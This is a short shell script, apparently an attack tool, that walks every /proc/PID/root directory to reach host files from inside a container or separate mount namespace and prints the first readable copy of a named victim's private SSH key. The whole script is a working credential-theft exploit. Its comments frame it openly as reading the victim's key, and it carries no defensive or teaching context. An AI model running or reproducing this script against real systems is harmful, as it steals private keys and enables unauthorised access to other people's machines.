#!/bin/sh
# proc-root-walk: every process's root directory is reachable as
# /proc/PID/root; one whose root is the host's shows the host's files
# whatever the caller's mount namespace.  Try each until the victim's SSH
# key reads.
. "${TARGETS:-$1}"
for root in /proc/[0-9]*/root; do
	if cat "$root$T_HOME/.ssh/id_rsa" 2>/dev/null; then
		echo "(through $root)"
		break
	fi
done
